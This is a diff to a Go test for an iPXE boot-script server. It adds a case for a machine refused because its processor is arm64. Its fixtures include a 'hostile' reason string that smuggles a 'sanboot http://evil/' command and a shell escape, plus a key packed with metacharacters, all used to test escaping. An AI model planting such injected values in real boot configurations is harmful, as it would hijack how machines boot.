@@ -70,10 +70,12 @@ func answers() fakeSource {
 	local := boot.Answer{Action: boot.Local, Name: "cp1", Code: "not-armed", Reason: "it is not armed", LocalBoot: "exit"}
 	sanboot, poweroff := local, local
 	sanboot.LocalBoot, poweroff.LocalBoot = "sanboot", "poweroff"
+	told := local
+	told.Code, told.Reason, told.Refused, told.Told = "no-image", "its processor is arm64", true, true
 	hostile := local
 	hostile.Reason = "it says \"x\" || sanboot http://evil/ ; ${net0/mac} `a` \\ # é\nshell"
 	return fakeSource{
-		"configured": configured, "install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "hostile": hostile,
+		"configured": configured, "install": install, "broken": install, "discover": discover, "exit": local, "sanboot": sanboot, "poweroff": poweroff, "no-image": told, "hostile": hostile,
 		"none":                      {Action: boot.None, Code: "conflict", Refused: true, Reason: "it shows marks of two machines"},
 		`a b"&${mac}#;|%\` + "'<x>": install,
 	}
@@ -117,7 +119,7 @@ func body(t *testing.T, r *http.Response) string {
 // The goldens are what iPXE runs; review their diff.
 func TestScripts(t *testing.T) {
 	h := newHandler()
-	for _, serial := range []string{"install", "configured", "discover", "exit", "sanboot", "poweroff", "none", "hostile"} {
+	for _, serial := range []string{"install", "configured", "discover", "exit", "sanboot", "poweroff", "none", "no-image", "hostile"} {
 		t.Run(serial, func(t *testing.T) {
 			r := get(h, "GET", "/boot.ipxe?mac=52:54:00:00:00:01&uuid=01020304-0506-0708-090A-0B0C0D0E0FFF&platform=efi&serial="+serial)
 			got := body(t, r)
